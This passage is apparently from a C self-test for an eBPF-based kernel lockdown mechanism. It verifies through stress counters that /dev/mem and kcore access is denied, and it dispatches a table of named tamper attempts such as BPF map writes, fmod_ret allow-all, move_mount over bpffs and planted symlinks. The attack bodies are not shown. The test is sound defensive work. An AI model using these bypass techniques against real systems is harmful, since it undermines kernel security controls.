	fails += stress_result(k1.allowed == k0.allowed, what);
	snprintf(
		what, sizeof(what),
		"every kcore probe counted as audited or denied (%ld probes, +%llu)",
		st->kcore, k1.audited - k0.audited + k1.denied - k0.denied);
	fails +=
		stress_result(k1.audited - k0.audited + k1.denied - k0.denied ==
				      (unsigned long long)st->kcore,
			      what);
	snprintf(what, sizeof(what),
		 "dev_mem never allowed silently (+%llu allowed)",
		 d1.allowed - d0.allowed);
	fails += stress_result(d1.allowed == d0.allowed, what);
	snprintf(
		what, sizeof(what),
		"dev_mem refused after the raise to integrity returned (%ld of %ld not refused)",
		st->fail_devmem, st->devmem_checked);
	fails += stress_result(!st->fail_devmem, what);
	snprintf(
		what, sizeof(what),
		"the enforced level never read lower than a raise had returned (%ld times)",
		st->fail_lower);
	fails += stress_result(!st->fail_lower, what);
	snprintf(
		what, sizeof(what),
		"every policy read back is one that was applied, never a mix (%ld mixed)",
		st->fail_mixed);
	fails += stress_result(!st->fail_mixed, what);
	return fails ? 1 : 0;
}

static const struct attack {
	const char *name;
	int (*run)(void);
} attacks[] = {
	{ "link_fd_by_id", attack_link_by_id },
	{ "link_pin_obj_get", attack_link_pin },
	{ "map_write_by_id", attack_map_write },
	{ "counters_pin_writable", attack_map_pin_rw },
	{ "counters_freeze", attack_map_freeze },
	{ "prog_fd_by_id", attack_prog_by_id },
	{ "attach_to_our_prog", attack_attach_to_raise },
	{ "lsm_allow_all", attack_lsm_allow_all },
	{ "fmod_ret_allow_all", attack_fmod_ret },
	{ "policy_weaken", attack_policy_weaken },
	{ "before_ours", attack_before_ours },
	{ "fmod_ret_dev_mem", attack_fmod_ret_dev_mem },
	{ "plant_pin", attack_plant_pin },
	{ "move_mount_bpffs", attack_move_mount_bpffs },
	{ "move_mount_sys", attack_move_mount_sys },
	{ "move_mount_over", attack_move_mount_over },
	{ "move_mount_beneath", attack_move_mount_beneath },
	{ "plant_symlink", attack_plant_symlink },
	{ "plant_link", attack_plant_link },
	{ "forge_ours", attack_forge_ours },
};

int main(int argc, char **argv)
{
	size_t n = sizeof(attacks) / sizeof(attacks[0]);
	int breached = 0;

	libbpf_set_print(NULL);
	if (argc == 3 && !strcmp(argv[1], "--raise-to"))
		return raise_to(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "--unrelated"))
		return unrelated();
	if (argc == 2 && !strcmp(argv[1], "--lower-scope"))
		return lower_scope();
	if (argc == 2 && !strcmp(argv[1], "--overfill-scopes"))
		return overfill_scopes();
	if (argc == 4 && !strcmp(argv[1], "--plant"))
		return plant(argv[2], argv[3]);
	if (argc == 4 && !strcmp(argv[1], "--forge"))
		return forge(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "--preload"))
		return preload(argv[2], 0);
	if (argc == 3 && !strcmp(argv[1], "--preattach"))
		return preload(argv[2], 1);
	if (argc == 4 && !strcmp(argv[1], "--prehide"))
		return prehide(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "--prewrite"))
		return prewrite(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "--stall-load"))
		return stall_load(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "--override-return"))
		return attack_override_return();
	if (argc == 3 && !strcmp(argv[1], "--freplace-raise"))
		return freplace_retarget(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "--set-traced"))
		return set_traced(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "--set-raced"))
		return set_raced(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "--stress"))
		return stress(atoi(argv[2]));
	if (argc == 3 && !strcmp(argv[1], "--marker"))
		return printf(MARKER "%s\n", argv[2]) < 0;
	for (size_t i = 0; i < n; i++) {
		int wanted = argc < 2;

		for (int a = 1; a < argc; a++)
			wanted |= !strcmp(argv[a], attacks[i].name);
		if (wanted)
			breached |= attacks[i].run();
	}
	return breached;
}
